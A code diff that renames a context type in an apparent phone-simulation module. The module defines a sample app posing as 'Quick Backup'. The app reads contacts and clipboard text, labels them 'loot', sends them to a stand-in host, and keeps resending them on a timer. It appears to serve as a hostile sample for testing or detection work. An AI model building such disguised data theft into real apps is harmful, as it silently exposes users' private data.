@@ -15,7 +15,7 @@ from handrail.phone.ui.widgets import button, paragraph
 if TYPE_CHECKING:
     from datetime import datetime
 
-    from handrail.phone.context import Context, Glance
+    from handrail.phone.context import Glance, HandlerContext
 
 PACKAGE = "com.quick.backup"
 HOST = "drop.quick-backup.example"
@@ -35,19 +35,19 @@ class Main(Page):
         return scaffold("Quick Backup", paragraph(done), button("Back up now", back_up))
 
 
-def back_up(do: Context[int, Main]) -> None:
+def back_up(do: HandlerContext[int, Main]) -> None:
     """Ask for the contacts, then send them."""
     do.request(READ_CONTACTS, send_away)
 
 
-def send_away(do: Context[int, Any]) -> None:
+def send_away(do: HandlerContext[int, Any]) -> None:
     """Everything that can be read leaves the phone."""
     loot = Stored((do.contacts, do.clipboard.text), database=False)
     do.write(OUTBOX, loot)
     do.exchange(HOST, bytes_out=len(loot.to_bytes()), bytes_in=120)
 
 
-def keep_sending(do: Context[int, Any], _: datetime) -> None:
+def keep_sending(do: HandlerContext[int, Any], _: datetime) -> None:
     """Once it may, it goes on by itself: every minute."""
     do.data = do.data + 1
     if do.data % 4 == 0 and do.granted(READ_CONTACTS):
